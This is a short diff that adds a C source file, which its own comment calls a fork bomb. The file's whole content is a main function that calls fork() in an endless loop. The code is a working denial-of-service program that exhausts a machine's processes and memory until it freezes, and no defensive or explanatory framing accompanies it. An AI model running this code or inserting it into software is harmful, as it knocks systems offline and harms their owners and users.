@@ -1,0 +1,8 @@
+// A fork bomb: forks forever, in every copy.
+#include <unistd.h>
+
+int main(void) {
+  for (;;) {
+    fork();
+  }
+}
